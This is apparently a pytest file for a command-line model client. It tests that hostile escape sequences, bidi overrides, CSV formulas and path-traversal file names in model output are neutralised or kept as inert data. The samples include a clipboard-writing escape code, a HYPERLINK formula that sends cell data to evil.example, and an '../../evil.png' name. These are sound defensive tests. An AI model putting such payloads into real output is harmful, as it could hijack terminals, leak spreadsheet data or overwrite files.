"""What a model or server says, on a terminal and in tables: shown, never obeyed."""

from __future__ import annotations

import ast
import csv
import json
from pathlib import Path
from typing import Any

import pytest

from antiphon.jobs.sinks import Shown
from tests.cli.conftest import child, cli, home, script

__all__ = ["child", "cli", "home"]  # fixtures

# Clear the screen, set the title, write to the clipboard, a C1 sequence, a hyperlink, going back, overriding order.
EVIL = "a\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x9b31m\x1b]8;;https://evil.example\x1b\\b\x08\x7f\rc\u202ed\u2066e\u2028f"
OBEYED = set("\x07\x08\x7f\x9b\u202e\u2066\u2028")
ECHO = ("--provider", "echo", "-m", "echo")
CLI = Path(__file__).parents[2] / "src" / "antiphon" / "cli"


def harmless(shown: str, *, ours: bool = False) -> bool:
    """Whether a terminal obeys nothing in `shown`; with `ours` what draws tables and colours may be in it."""
    if ours:
        return not any(bad in shown for bad in ("\x1b[2J", "\x1b]", "\x9b", "\u202e", "\u2066", "\x07"))
    return not (OBEYED | {"\x1b"}) & set(shown) and "\rc" not in shown


def test_a_batch_at_a_terminal(child: Any, tmp_path: Path) -> None:
    """Records on a terminal say the same as JSON, and nothing in them is obeyed."""
    (tmp_path / "in.txt").write_text("one\n")
    one = child(
        "batch", tmp_path / "in.txt", *ECHO, "-q", "--keep", "prompt", *script(text=EVIL), terminal="stdout"
    )
    assert one.end() == 0
    shown = one.seen.decode()
    assert harmless(shown.replace("\r\n", "\n"))
    assert json.loads(shown)["text"] == EVIL


def test_records_in_a_pipe_are_as_they_are(tmp_path: Path) -> None:
    """Bytes for programs are not touched; both forms say the same."""

    class Terminal:
        """A stream that says it is one."""

        def __init__(self, tty: bool) -> None:
            self.tty, self.data = tty, b""

        def isatty(self) -> bool:
            return self.tty

        def write(self, data: bytes) -> None:
            self.data += data

        def flush(self) -> None:
            """Nothing waits."""

    lines: list[bytes] = []
    for tty in (False, True):
        stream = Terminal(tty)
        Shown(stream).write({"text": EVIL + "é\ud800"})  # type: ignore[arg-type]
        lines.append(stream.data)
    assert "\x9b".encode() in lines[0]
    assert "\x9b".encode() not in lines[1]
    assert "é".encode() in lines[1]
    assert json.loads(lines[0]) == json.loads(lines[1])


# Several commands in one process at one terminal: starting one takes longer than all of them.
ALL = """
import json, sys
from antiphon.cli import main
for arguments in json.loads(sys.argv[1]):
    sys.argv[1:] = arguments
    try:
        main()
    except SystemExit:
        pass
    print("== done", flush=True)
"""


def at_terminal(child: Any, *commands: tuple[object, ...]) -> list[str]:
    """What each command shows at a terminal."""
    one = child(
        json.dumps([[str(word) for word in command] for command in commands]),
        program=("-c", ALL),
        terminal="stdout stderr",
    )
    assert one.end() == 0, one.seen
    shown = one.seen.decode().split("== done")
    assert len(shown) == len(commands) + 1
    return shown[:-1]


def test_what_a_server_says_at_a_terminal(child: Any) -> None:
    """Text, reasoning, errors, tracebacks and JSON on a terminal hold nothing that it would obey."""
    error = {"error": {"message": EVIL, "code": EVIL}}
    commands = [
        ("hi", "--show-reasoning", *script(text=EVIL, reasoning=EVIL)),
        ("hi", "--no-stream", *script(text=EVIL)),
        ("hi", "--json", *script(text=EVIL)),
        ("hi", *script(status=400, error=error)),
        ("hi", "--debug", *script(status=400, error=error)),
        ("hi", "--json", *script(status=500, error=error)),
        ("hi", *script(text="a", finish_reason=EVIL)),
    ]
    shown = at_terminal(child, *(("complete", *ECHO, "--retries", "0", *words) for words in commands))
    assert [harmless(text, ours=True) for text in shown] == [True] * len(commands)
    assert "Traceback" in shown[4]


def test_what_is_recorded_at_a_terminal(child: Any, cli: Any) -> None:
    """Listing and showing recordings and conversations with hostile prompts and answers is harmless too."""
    cli("complete", *ECHO, "--seed", "1", f"prompt {EVIL}", *script(text=EVIL))
    cli("chat", *ECHO, *script(text=EVIL), stdin="say " + EVIL.replace("\r", "").replace("\u2028", "") + "\n")
    key = json.loads(cli("replay", "list", "--json").stdout)[0]["key"]
    commands = [("replay", "list"), ("replay", "show", key), ("replay", "show", "--json", key)]
    commands += [("chat", "--list"), ("chat", "--list", "--json"), ("spending",), ("jobs", "list")]
    shown = at_terminal(child, *commands)
    assert [harmless(text, ours=True) for text in shown] == [True] * len(commands)
    assert "prompt" in shown[0]


def test_nothing_goes_to_the_terminal_unseen() -> None:
    """Every place in the command line that writes gives its text to one of the few that make it harmless."""
    makers = {"safe_json", "printable", "_line"}
    # Ours alone, or for pipes only: a label, the version, an address of ours, the arrow of the chat, a piped table.
    ours = {"console.py": 2, "__init__.py": 1, "ui.py": 1, "chat.py": 1, "failures.py": 4}
    found: dict[str, int] = {}
    for path in sorted(CLI.glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            if node.func.attr not in ("echo", "secho") or not node.args:
                continue
            called = {
                inner.func.id
                for inner in ast.walk(node.args[0])
                if isinstance(inner, ast.Call) and isinstance(inner.func, ast.Name)
            }
            if not called & makers:
                found[path.name] = found.get(path.name, 0) + 1
    assert {name: count for name, count in found.items() if count > ours.get(name, 0)} == {}


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "@SUM(A1)",
    "+1",
    "-1",
    "\t=1",
    "\r=1",
    "a,=1",
    '"=1',
]


def test_cells_of_a_table_are_the_words_themselves(cli: Any, tmp_path: Path) -> None:
    """CSV is data: a program reads back exactly what was said, and no word of an answer begins another cell.

    What looks like a formula is not changed (docs/how-to/batch.md says so): an added mark would be a wrong answer.
    """
    out = tmp_path / "out.csv"
    (tmp_path / "in.jsonl").write_text("".join(json.dumps({"prompt": text}) + "\n" for text in FORMULAS))
    assert cli("batch", tmp_path / "in.jsonl", *ECHO, "-o", out, "-q").exit_code == 0
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file, strict=True))
    assert [row["text"] for row in rows] == FORMULAS


def test_a_model_names_no_file(cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pictures in an answer are written where the command says, whatever the model calls them."""
    monkeypatch.chdir(tmp_path)
    picture = "data:image/png;name=../../evil.png;base64,iVBORw0KGgoAAAAA"
    result = cli("complete", *ECHO, "draw", "-o", "out.png", *script(images=[picture]))
    made = {path.name for path in tmp_path.rglob("*") if path.is_file() and "home" not in path.parts}
    assert not any("evil" in name for name in made), result.output
    assert not (tmp_path.parent / "evil.png").exists()
